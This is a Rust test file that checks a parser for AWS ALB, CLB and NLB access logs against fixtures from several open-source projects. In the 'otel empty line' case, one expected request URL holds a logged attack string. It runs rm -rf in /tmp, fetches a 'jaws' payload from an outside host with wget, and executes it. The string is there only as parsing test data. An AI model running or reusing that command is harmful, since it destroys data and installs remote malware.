        json!(["ws", "10.0.0.140", "10.0.1.192", 8010, 0.001, 0.003, 0.0, 101, 101, 218, 587, "GET", "http://10.0.0.30:80/", "HTTP/1.1", null, null, "Root=1-58337364-23a8c76965a2ef7629b185e3", null, 1, "forward", null, null]),
        json!(["http", "192.168.131.39", null, null, 0.0, 0.001, 0.0, 200, 200, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "curl/7.46.0", null, "Root=1-58337364-23a8c76965a2ef7629b185e3", null, 0, "forward", null, null]),
        json!(["http", "192.168.131.39", null, null, 0.0, 0.001, 0.0, 502, null, 34, 366, "GET", "http://www.example.com:80/", "HTTP/1.1", "curl/7.46.0", null, "Root=1-58337364-23a8c76965a2ef7629b185e3", null, 0, "forward", null, "LambdaInvalidResponse"]),
        // Malformed requests. Beats: referrer (its URL slot) `http://www.example.com:80-`, then
        // absent; no method or version; target group and trace id kept as "-" (null here).
        json!(["http", "192.168.131.39", null, null, -1.0, -1.0, -1.0, 400, null, 0, 0, null, "http://www.example.com:80-", null, null, null, null, null, 0, null, null, null]),
        json!(["http", "192.168.131.39", null, null, -1.0, -1.0, -1.0, 400, null, 0, 0, null, null, null, null, null, null, null, 0, null, null, null]),
    ];
    check_table(
        &parsed.rows,
        &columns,
        &table,
        &json!({"target_port_list": null, "conn_trace_id": null}),
        "beats example-alb-http",
    );
    check(
        &parsed.rows[7],
        &json!({"request": "- - -"}),
        "beats line 9",
    );
}

#[test]
fn elastic_beats_clb_and_nlb_lines() {
    let Some(dir) = corpus_dir() else { return };
    // CLB HTTP: microsecond times printed with trailing zeros dropped (beats: floats too).
    let rows = parse_valid(&dir, &format!("{BEATS}/elb-http.log"), Format::Clb, 5);
    let chrome = "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36";
    let ip_url = "http://18.194.223.56:80/";
    let lb_url = "http://filebeat-aws-elb-test-1703142762.eu-central-1.elb.amazonaws.com:80/";
    let columns = [
        "time",
        "client_ip",
        "client_port",
        "backend_ip",
        "request_processing_time",
        "backend_processing_time",
        "response_processing_time",
        "request_url",
        "user_agent",
    ];
    #[rustfmt::skip]
    let table = [
        json!(["2019-10-14T12:00:20.694172Z", "175.16.199.1", 54106, "10.0.1.185", 0.000043, 0.000785, 0.000023, ip_url, chrome]),
        json!(["2019-10-14T12:01:41.918996Z", "81.2.69.143", 54001, "10.0.0.169", 0.000041, 0.00491, 0.000027, ip_url, chrome]),
        json!(["2019-10-14T12:01:49.543250Z", "81.2.69.193", 52406, "10.0.1.185", 0.000041, 0.00079, 0.000024, lb_url, "curl/7.58.0"]),
        json!(["2019-10-14T12:01:50.199250Z", "81.2.69.193", 52410, "10.0.0.169", 0.000039, 0.001184, 0.000028, lb_url, "curl/7.58.0"]),
        json!(["2019-10-14T12:01:50.831170Z", "81.2.69.193", 52414, "10.0.1.185", 0.000038, 0.000787, 0.000024, lb_url, "curl/7.58.0"]),
    ];
    let same = json!({
        "elb": "filebeat-aws-elb-test", "backend_port": 80, "elb_status_code": 200,
        "backend_status_code": 200, "received_bytes": 0, "sent_bytes": 612,
        "request_method": "GET", "request_http_version": "HTTP/1.1",
        "ssl_cipher": null, "ssl_protocol": null, "trailing_fields": null,
    });
    check_table(&rows, &columns, &table, &same, "beats elb-http");

    // CLB TCP: status `- -`, request `"- - - "`, user agent `"-"` (beats: "-" kept).
    let rows = parse_valid(&dir, &format!("{BEATS}/elb-tcp.log"), Format::Clb, 6);
    let columns = [
        "time",
        "client_port",
        "backend_ip",
        "request_processing_time",
        "backend_processing_time",
        "response_processing_time",
        "received_bytes",
        "sent_bytes",
    ];
    #[rustfmt::skip]
    let table = [
        json!(["2019-10-17T13:22:51.758784Z", 51600, "10.0.0.47", 0.000943, 0.00001, 0.000015, 134, 859]),
        json!(["2019-10-17T13:23:07.523763Z", 51726, "10.0.1.184", 0.000501, 0.00001, 0.000015, 134, 859]),
        json!(["2019-10-17T13:23:08.477627Z", 51734, "10.0.0.47", 0.001105, 0.00001, 0.000015, 134, 859]),
        json!(["2019-10-17T13:23:09.174797Z", 51738, "10.0.1.184", 0.000422, 0.000009, 0.000013, 134, 859]),
        json!(["2019-10-17T13:26:14.308385Z", 46288, "10.0.0.47", 0.000534, 0.000011, 0.000016, 7, 343]),
        json!(["2019-10-17T13:26:19.318250Z", 46304, "10.0.1.184", 0.001004, 0.00001, 0.000015, 17, 343]),
    ];
    let tcp = json!({
        "elb": "filebeat-aws-elb-test-elb", "client_ip": "77.227.156.41", "backend_port": 80,
        "elb_status_code": null, "backend_status_code": null, "request": "- - - ",
        "request_method": null, "request_url": null, "request_http_version": null,
        "user_agent": null, "ssl_cipher": null, "ssl_protocol": null,
    });
    check_table(&rows, &columns, &table, &tcp, "beats elb-tcp");

    // The CLB doc examples: HTTP (and a 503 with backend `-`), HTTPS, SSL, TCP.
    let doc = json!({"time": "2015-05-13T23:39:43.945958Z", "elb": "my-loadbalancer",
                     "client_ip": "192.168.131.39", "client_port": 2817});
    let columns = [
        "backend_ip",
        "backend_port",
        "request_processing_time",
        "backend_processing_time",
        "response_processing_time",
        "elb_status_code",
        "backend_status_code",
        "received_bytes",
        "sent_bytes",
        "request_url",
        "user_agent",
        "ssl_cipher",
        "ssl_protocol",
    ];
    let http = "http://www.example.com:80/";
    #[rustfmt::skip]
    let doc_examples = [
        (
            "example-http.log",
            2,
            vec![
                json!(["10.0.0.1", 80, 0.000073, 0.001048, 0.000057, 200, 200, 0, 29, http, "curl/7.38.0", null, null]),
                json!([null, null, -1.0, -1.0, -1.0, 503, null, 0, 0, http, "curl/7.38.0", null, null]),
            ],
        ),
        (
            "example-https.log",
            1,
            vec![json!(["10.0.0.1", 80, 0.000086, 0.001048, 0.001337, 200, 200, 0, 57, "https://www.example.com:443/", "curl/7.38.0", "DHE-RSA-AES128-SHA", "TLSv1.2"])],
        ),
        (
            "example-ssl.log",
            1,
            vec![json!(["10.0.0.1", 80, 0.001065, 0.000015, 0.000023, null, null, 57, 502, null, null, "ECDHE-ECDSA-AES128-GCM-SHA256", "TLSv1.2"])],
        ),
        (
            "example-tcp.log",
            2,
            vec![
                json!(["10.0.0.1", 80, 0.001069, 0.000028, 0.000041, null, null, 82, 305, null, null, null, null]),
                json!([null, null, -1.0, -1.0, -1.0, null, null, 82, 0, null, null, null, null]),
            ],
        ),
    ];
    for (file, n, table) in doc_examples {
        let rows = parse_valid(&dir, &format!("{BEATS}/{file}"), Format::Clb, n);
        check_table(&rows, &columns, &table, &doc, file);
    }

    // NLB version 1.0, 18 fields (OTel needs 22 and cannot read it).
    let rows = parse_valid(
        &dir,
        &format!("{BEATS}/example-nlb-tcp.log"),
        Format::Nlb,
        1,
    );
    check(
        &rows[0],
        &json!({
            "type": "tls", "version": "1.0", "time": "2018-12-20T02:59:40.000000Z",
            "elb": "net/my-network-loadbalancer/c6e77e28c25b2234", "listener": "g3d4b5e8bb8464cd",
            "client_ip": "89.160.20.112", "client_port": 51341,
            "destination_ip": "172.100.100.185", "destination_port": 443,
            "connection_time": 5, "tls_handshake_time": 2, "received_bytes": 98, "sent_bytes": 246,
            "incoming_tls_alert": null,
            "chosen_cert_arn": "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99",
            "chosen_cert_serial": null, "tls_cipher": "ECDHE-RSA-AES128-SHA",
            "tls_protocol_version": "tlsv12", "tls_keyexchange": null,
            "domain_name": "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com",
            "alpn_fe_protocol": null, "alpn_be_protocol": null,
            "alpn_client_preference_list": null, "tls_connection_creation_time": null,
            "trailing_fields": null,
        }),
        "beats example-nlb-tcp",
    );
}

// ---------------------------------------------------------------------------------------------
// open-telemetry/opentelemetry-collector-contrib awslogsencodingextension elb-access-log.

const OTEL: &str = "open-telemetry__opentelemetry-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata";

/// The log records of an OTLP `_expected.yaml`: each record's attributes (key → value as
/// text) plus `timeUnixNano`. A line-based reading of the regular layout OTel's golden files
/// have (no YAML crate among the dev-dependencies).
fn otlp_records(yaml: &str) -> (Vec<Map<String, Value>>, Map<String, Value>) {
    let mut records = Vec::new();
    let mut resource = Map::new();
    let mut current = Map::new();
    let mut key: Option<String> = None;
    let mut in_records = false;
    for line in yaml.lines() {
        let t = line.trim();
        if t.starts_with("- logRecords:") {
            in_records = true;
        }
        if let Some(k) = t.strip_prefix("- key: ") {
            key = Some(k.to_string());
        } else if let Some(v) = t
            .strip_prefix("stringValue: ")
            .or_else(|| t.strip_prefix("intValue: "))
        {
            let v = v.trim_matches('"').to_string();
            let k = key.take().unwrap();
            if in_records {
                current.insert(k, json!(v));
            } else {
                resource.insert(k, json!(v));
            }
        } else if let Some(ns) = t.strip_prefix("timeUnixNano: ") {
            current.insert(
                "timeUnixNano".into(),
                json!(ns.trim_matches('"').parse::<i64>().unwrap()),
            );
            records.push(std::mem::take(&mut current));
        } else if t.starts_with("scope:") {
            in_records = false;
        }
    }
    (records, resource)
}

#[test]
fn otel_clb_expected_yaml() {
    let Some(dir) = corpus_dir() else { return };
    let rows = parse_valid(
        &dir,
        &format!("{OTEL}/clb_al_valid_logs.log"),
        Format::Clb,
        2,
    );
    let yaml = String::from_utf8(read_file(
        &dir,
        &format!("{OTEL}/clb_al_valid_logs_expected.yaml"),
    ))
    .unwrap();
    let (records, resource) = otlp_records(&yaml);
    assert_eq!(records.len(), rows.len());
    assert_eq!(resource["cloud.resource_id"], json!("my-loadbalancer"));
    let text = |v: &Value| v.as_str().unwrap().to_string();
    let int = |v: &Value| json!(v.as_str().unwrap().parse::<i64>().unwrap());
    let mut compared = 0;
    for (i, (row, theirs)) in rows.iter().zip(&records).enumerate() {
        let ctx = format!("otel clb line {}", i + 1);
        assert_eq!(row["elb"], resource["cloud.resource_id"], "{ctx}");
        for (key, value) in theirs {
            let (column, want) = match key.as_str() {
                "client.address" => ("client_ip", value.clone()),
                "client.port" => ("client_port", int(value)),
                "destination.address" => ("backend_ip", value.clone()),
                "destination.port" => ("backend_port", int(value)),
                "http.request.method" => ("request_method", value.clone()),
                "url.full" => ("request_url", value.clone()),
                "http.request.size" => ("received_bytes", int(value)),
                "http.response.size" => ("sent_bytes", int(value)),
                "tls.cipher" => ("ssl_cipher", value.clone()),
                "aws.elb.status.code" => ("elb_status_code", int(value)),
                "aws.elb.backend.status.code" => ("backend_status_code", int(value)),
                "user_agent.original" => ("user_agent", value.clone()),
                // OTel lower-cases the protocol: `tlsv1.2`; kept as logged (`TLSv1.2`) here.
                "tls.protocol.version" => {
                    let ours = row["ssl_protocol"].as_str().unwrap();
                    assert_eq!(ours.to_ascii_lowercase(), text(value), "{ctx}");
                    assert_eq!(ours, "TLSv1.2", "{ctx}");
                    compared += 1;
                    continue;
                }
                // OTel splits `HTTP/1.1` into `http` and "1.1"; kept whole here.
                "network.protocol.name" => {
                    let version = row["request_http_version"].as_str().unwrap();
                    assert_eq!(
                        version.split('/').next().unwrap().to_ascii_lowercase(),
                        text(value),
                        "{ctx}"
                    );
                    compared += 1;
                    continue;
                }
                "network.protocol.version" => (
                    "request_http_version",
                    json!(format!("HTTP/{}", text(value))),
                ),
                "timeUnixNano" => {
                    let ns = value.as_i64().unwrap();
                    ("time", json!(iso_us(ns / 1000)))
                }
                other => panic!("{ctx}: unmapped OTel attribute {other}"),
            };
            assert_eq!(row[column], want, "{ctx}: {column} ({key})");
            compared += 1;
        }
        // Line 2's backend is `-`: OTel has no destination, null here.
        if !theirs.contains_key("destination.address") {
            assert!(
                row["backend_ip"].is_null() && row["backend_port"].is_null(),
                "{ctx}"
            );
        }
    }
    // 15 attributes and the time of line 1, 13 and the time of line 2 (no backend).
    assert_eq!(compared, 16 + 14);
}

#[test]
fn otel_alb_and_nlb_lines_and_invalid_ones() {
    let Some(dir) = corpus_dir() else { return };
    // ALB, 30 fields. Line 2 has bracketed IPv6 (synthetic: AWS writes none); OTel's expected
    // output has the addresses without brackets, as here.
    let rows = parse_valid(
        &dir,
        &format!("{OTEL}/alb_al_valid_logs.log"),
        Format::Alb,
        2,
    );
    let common = json!({
        "time": "2018-07-02T22:23:00.186641Z", "type": "https",
        "actions_executed": "authenticate,forward", "conn_trace_id": "TID_1234abcd5678ef90",
        "request_processing_time": 0.086, "target_processing_time": 0.048,
        "response_processing_time": 0.037, "elb_status_code": 200, "target_status_code": 200,
        "ssl_protocol": "TLSv1.2", "domain_name": "www.example.com",
        "trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
        "target_group_arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
    });
    check(&rows[0], &common, "otel alb line 1");
    check(&rows[1], &common, "otel alb line 2");
    check(
        &rows[0],
        &json!({"client_ip": "192.168.131.39", "client_port": 2817, "target_ip": "10.0.0.1", "target_port": 80}),
        "otel alb line 1",
    );
    check(
        &rows[1],
        &json!({"client_ip": "fe80::202:b3ff:fe1e:8329", "client_port": 443,
                "target_ip": "2001:db8::1", "target_port": 80}),
        "otel alb line 2",
    );

    // NLB: OTel's own expected output mis-splits the ALPN list (`h2`, then `,"http/1.1"` as
    // tls_connection_creation_time); the value is one field here.
    let rows = parse_valid(
        &dir,
        &format!("{OTEL}/nlb_al_valid_logs.log"),
        Format::Nlb,
        1,
    );
    check(
        &rows[0],
        &json!({"type": "tls", "version": "2.0", "time": iso_us(1_585_731_102_000_000),
                "connection_time": 5, "tls_handshake_time": 2,
                "received_bytes": 98, "sent_bytes": 246, "tls_protocol_version": "tlsv12",
                "alpn_fe_protocol": "h2", "alpn_be_protocol": "h2",
                "alpn_client_preference_list": "\"h2\",\"http/1.1\"",
                "tls_connection_creation_time": "2020-04-01T08:51:20.000000Z"}),
        "otel nlb",
    );

    // Two ALB lines around an empty line (skipped); the second has a space in the URL.
    let rows = parse_valid(&dir, &format!("{OTEL}/elb_empty_line.log"), Format::Alb, 2);
    check(
        &rows[1],
        &json!({"request_url": "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                "request_http_version": "HTTP/1.1", "classification": "Acceptable",
                "classification_reason": "SpaceInUri", "target_group_arn": null,
                "user_agent": "Hello, world"}),
        "otel empty line",
    );

    // Lines OTel refuses.
    for (file, format) in [
        ("alb_al_insufficient_fields.log", Format::Alb),
        ("nlb_al_insufficient_fields.log", Format::Nlb),
        ("clb_al_insufficient_fields.log", Format::Clb),
    ] {
        let parsed = parse_bytes(&read_file(&dir, &format!("{OTEL}/{file}")), format, file);
        assert!(parsed.rows.is_empty(), "{file}");
        assert_eq!(parsed.rejects.len(), 1, "{file}");
        assert_eq!(parsed.rejects[0].kind(), ErrorKind::FieldCount, "{file}");
    }
    for file in ["elb_invalid_syntax.log", "elb_control.log"] {
        let bytes = read_file(&dir, &format!("{OTEL}/{file}"));
        for format in [Format::Alb, Format::Nlb, Format::Clb, Format::AlbConnection] {
            let parsed = parse_bytes(&bytes, format, file);
            assert!(parsed.rows.is_empty(), "{file} as {format}");
            assert_eq!(parsed.rejects.len(), 1, "{file} as {format}");
        }
        // Neither is taken for a record of any format.
        let err = ReaderBuilder::auto().build(&bytes[..]).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::UnknownFormat, "{file}");
    }
    // OTel refuses the type `invalid`; AWS says to expect other types ("ignore any other
    // values"): the type is an open set here (spec §4.10 item 12), the line a row.
    let bytes = read_file(&dir, &format!("{OTEL}/alb_al_invalid_syntax.log"));
    let parsed = parse_bytes(&bytes, Format::Alb, "alb_al_invalid_syntax");
    assert_eq!(parsed.rows.len(), 1);
    check(
        &parsed.rows[0],
        &json!({"type": "invalid", "conn_trace_id": "TID_1234abcd5678ef90",
                "transformed_host": null, "transformed_uri": null, "request_transform_status": null}),
        "otel invalid type",
    );
    assert_eq!(Format::detect(&bytes).unwrap(), Format::Alb);
}

// ---------------------------------------------------------------------------------------------
// dpetzold/aws-log-parser test/data (one line per file).

#[test]
fn dpetzold_lines() {
    let Some(dir) = corpus_dir() else { return };
    let data = "dpetzold__aws-log-parser/test/data";
    let one = |file: &str, format: Format| {
        parse_valid(&dir, &format!("{data}/{file}"), format, 1)
            .pop()
            .unwrap()
    };
    let doc = json!({"elb": "app/my-loadbalancer/50dc6c495c0c9188", "conn_trace_id": null,
                     "target_port_list": null});
    let cases = [
        (
            "loadbalancer_http_entry.csv",
            json!({"type": "http", "client_ip": "192.168.131.39", "client_port": 2817,
                   "target_ip": "10.0.0.1", "target_port": 80,
                   "request_url": "http://www.example.com:80/?a=b&c=d&zip=98101",
                   "request_http_version": "HTTP/1.1", "matched_rule_priority": 0,
                   "actions_executed": "forward", "user_agent": "curl/7.46.0"}),
        ),
        (
            "loadbalancer_https_entry.csv",
            json!({"type": "https", "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
                   "ssl_protocol": "TLSv1.2", "domain_name": "www.example.com",
                   "chosen_cert_arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
                   "matched_rule_priority": 1, "actions_executed": "authenticate,forward"}),
        ),
        (
            "loadbalancer_http2_entry.csv",
            json!({"type": "h2", "request_http_version": "HTTP/2.0",
                   "redirect_url": "https://example.com:80/", "actions_executed": "redirect"}),
        ),
        (
            "loadbalancer_websockets_entry.csv",
            json!({"type": "ws", "elb_status_code": 101, "user_agent": null}),
        ),
        (
            "loadbalancer_secured_websockets_entry.csv",
            json!({"type": "wss", "elb_status_code": 101, "received_bytes": 218, "sent_bytes": 786}),
        ),
        // dpetzold's "odd" expectation is what the line says: target `-`, target status 200.
        (
            "loadbalancer_lambda_entry.csv",
            json!({"target_ip": null, "target_port": null, "target_status_code": 200}),
        ),
        (
            "loadbalancer_lambda_failed_entry.csv",
            json!({"target_ip": null, "elb_status_code": 502, "target_status_code": null,
                   "error_reason": "LambdaInvalidResponse"}),
        ),
        (
            "loadbalancer_cloudfront_forward.csv",
            json!({"actions_executed": "waf,forward", "domain_name": null, "elb_status_code": 502}),
        ),
        (
            "loadbalancer_cloudfront_forward_h2.csv",
            json!({"type": "h2", "domain_name": "api.example.com", "chosen_cert_arn": null}),
        ),
        (
            "loadbalancer_cloudfront_forward_refused.csv",
            json!({"domain_name": "api.example.com", "chosen_cert_arn": "session-reused"}),
        ),
    ];
    for (file, want) in &cases {
        let row = one(file, Format::Alb);
        check(&row, want, file);
        check(&row, &doc, file);
    }
    // 2024-style auth failures: `-1` times and rule priority, unquoted `-` target group,
    // codes newer than AWS's table (dpetzold parses them into an enum), a TID (which
    // dpetzold drops with every field after error_reason); no final newline.
    for (file, code) in [
        (
            "loadbalancer_http2_entry_auth_error.csv",
            "AuthInvalidAWSALBAuthNonce",
        ),
        (
            "loadbalancer_http2_entry_auth_missing.csv",
            "AuthMissingAWSALBAuthNonce",
        ),
    ] {
        let row = one(file, Format::Alb);
        check(
            &row,
            &json!({"type": "h2", "target_ip": null, "request_processing_time": -1.0,
                    "target_processing_time": -1.0, "response_processing_time": -1.0,
                    "elb_status_code": 401, "target_status_code": null,
                    "received_bytes": 4956, "sent_bytes": 616,
                    "request_url": "https://example.com:443/oauth2/idpresponse?code=XXXXX",
                    "ssl_cipher": "TLS_AES_128_GCM_SHA256", "ssl_protocol": "TLSv1.3",
                    "target_group_arn": null, "matched_rule_priority": -1,
                    "actions_executed": "authenticate", "error_reason": code,
                    "target_port_list": null, "target_status_code_list": null,
                    "classification": null, "classification_reason": null,
                    "conn_trace_id": "TID_b33932fc40603344b9a76c1b94b208fd"}),
            file,
        );
    }
    // The gzip copy reads like the plain one (by content, whatever the name).
    let plain = one("loadbalancer_http2_entry.csv", Format::Alb);
    let gz = read_file(&dir, &format!("{data}/loadbalancer_http2_entry.csv.gz"));
    let mut reader = ReaderBuilder::auto().build(&gz[..]).unwrap();
    assert!(reader.is_gzip());
    assert_eq!(reader.format(), Format::Alb);
    let batches: Vec<_> = reader.by_ref().collect::<Result<_, _>>().unwrap();
    assert_eq!(rows_of(&batches), [plain]);

    // The CLB doc HTTPS example.
    let row = one("classic_loadbalancer_http_entry.csv", Format::Clb);
    check(
        &row,
        &json!({"time": "2015-05-13T23:39:43.945958Z", "elb": "my-loadbalancer",
                "client_ip": "192.168.131.39", "client_port": 2817,
                "backend_ip": "10.0.0.1", "backend_port": 80,
                "request_url": "https://www.example.com:443/", "request_http_version": "HTTP/1.1",
                "user_agent": "curl/7.38.0", "ssl_cipher": "DHE-RSA-AES128-SHA",
                "ssl_protocol": "TLSv1.2"}),
        "dpetzold classic",
    );
}

// ---------------------------------------------------------------------------------------------
// logstash-plugins/logstash-patterns-core ELB_ACCESS_LOG (CLB only).

#[test]
fn logstash_patterns_core_clb_lines() {
    let Some(dir) = corpus_dir() else { return };
    let rows = parse_valid(
        &dir,
        "logstash-plugins__logstash-patterns-core/elb_access_log.extracted.log",
        Format::Clb,
        4,
    );
    // Line 1: the pre-2015 12-field record (no user agent or TLS fields).
    check(
        &rows[0],
        &json!({"time": "2014-02-15T23:39:43.945958Z", "elb": "my-test-loadbalancer",
                "client_ip": "192.168.131.39", "client_port": 2817,
                "backend_ip": "10.0.0.1", "backend_port": 80,
                "request_processing_time": 0.000073, "backend_processing_time": 0.001048,
                "response_processing_time": 0.000057, "elb_status_code": 200,
                "backend_status_code": 200, "received_bytes": 0, "sent_bytes": 29,
                "request_method": "GET", "request_url": "http://www.example.com:80/",
                "request_http_version": "HTTP/1.1", "user_agent": null,
                "ssl_cipher": null, "ssl_protocol": null}),
        "patterns-core line 1",
    );
    // Line 2: 12 fields, backend `-`, times `-1` (legacy mode keeps -1.0, as here; ECS mode
    // drops them), 408 with backend status `-`.
    check(
        &rows[1],
        &json!({"time": "2015-04-10T08:11:09.865823Z", "elb": "us-west-1-production-media",
                "client_ip": "49.150.87.133", "client_port": 55128,
                "backend_ip": null, "backend_port": null,
                "request_processing_time": -1.0, "backend_processing_time": -1.0,
                "response_processing_time": -1.0, "elb_status_code": 408,
                "backend_status_code": null, "received_bytes": 1294336, "sent_bytes": 0,
                "request_method": "PUT",
                "request_url": "https://media.xxxyyyzzz.com:443/videos/F4_M-T4X0MM6Hvy1PFHesw",
                "request_http_version": "HTTP/1.1"}),
        "patterns-core line 2",
    );
    // Line 3: a `#` inside the user agent.
    check(
        &rows[2],
        &json!({"user_agent": "curl/7.38.0 (#56-0ef1d4a5)", "ssl_cipher": "DHE-RSA-AES128-SHA",
                "ssl_protocol": "TLSv1.2"}),
        "patterns-core line 3",
    );
    // Line 4: `"-" - -`: user agent and TLS fields absent (null).
    check(
        &rows[3],
        &json!({"user_agent": null, "ssl_cipher": null, "ssl_protocol": null,
                "sent_bytes": 57}),
        "patterns-core line 4",
    );
}

/// Every ELB file in the corpus is covered by a test above.
#[test]
fn every_elb_corpus_file_is_covered() {
    let Some(dir) = corpus_dir() else { return };
    let covered = [
        "elastic__integrations/elb_logs/test-alb.log",
        "vectordotdev__vrl/parse_aws_alb_log.tests.extracted.log",
        "vectordotdev__vrl/parse_aws_alb_log.examples.extracted.log",
        "logstash-plugins__logstash-patterns-core/elb_access_log.extracted.log",
    ];
    let mut missing = Vec::new();
    for file in common::files(&dir) {
        let lower = file.to_ascii_lowercase();
        let elb = ["elb", "alb", "nlb", "clb", "loadbalancer"]
            .iter()
            .any(|w| lower.contains(w));
        if !elb
            || file.ends_with("SOURCE.md")
            || file.ends_with("-expected.json")
            || file.ends_with("_expected.yaml")
        {
            continue;
        }
        let known = covered.contains(&file.as_str())
            || file.starts_with(BEATS)
            || file.starts_with(OTEL)
            || file.starts_with("dpetzold__aws-log-parser/test/data/");
        if !known {
            missing.push(file);
        }
    }
    assert!(
        missing.is_empty(),
        "ELB corpus files without a test: {missing:#?}"
    );
}
